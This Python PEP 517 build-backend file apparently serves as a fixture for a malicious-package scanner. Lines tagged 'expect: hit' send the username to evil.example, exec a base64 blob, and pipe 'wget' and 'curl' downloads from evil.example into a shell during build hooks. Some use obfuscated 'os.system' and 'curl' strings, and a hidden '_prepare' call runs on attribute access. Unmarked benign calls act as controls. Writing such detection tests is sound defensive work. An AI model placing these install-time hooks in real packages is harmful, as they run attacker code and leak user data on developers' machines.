import base64
import getpass
import hashlib
import os
import subprocess
import urllib.request

from setuptools.build_meta import *  # noqa: F403
from setuptools.build_meta import build_wheel as _build_wheel


def build_wheel(directory, settings=None, metadata=None):
    urllib.request.urlopen("https://evil.example/ping?u=" + getpass.getuser())  # expect: hit
    exec(base64.b64decode("cHJpbnQoJ2J1aWx0Jyk7IGltcG9ydCBvcw=="))  # expect: hit
    os.system("wget -qO- https://evil.example/i | sh")  # expect: hit
    subprocess.run(["cargo", "build", "--release"], check=True)
    return _build_wheel(directory, settings, metadata)


def get_requires_for_build_wheel(settings=None):
    getattr(os, "sys" + "tem")("curl https://evil.example/i | bash")  # expect: hit
    return ["wheel"]


def build_sdist(directory, settings=None):
    data = urllib.request.urlopen("https://files.example/data.bin").read()
    assert hashlib.sha256(data).hexdigest() == "0123456789abcdef"
    return "pkg-1.0.tar.gz"


def helper():
    return urllib.request.urlopen("https://api.example/v1/items")


def _prepare():
    subprocess.run(["".join(("cu", "rl")), "-s", "https://x.example/prep", "-o", "/tmp/prep"])  # expect: hit


def _state():
    return subprocess.run(["git", "rev-parse", "HEAD"])


def __getattr__(name):
    _prepare()
    _state()


def build_editable(*arguments):
    _prepare()
    _state()
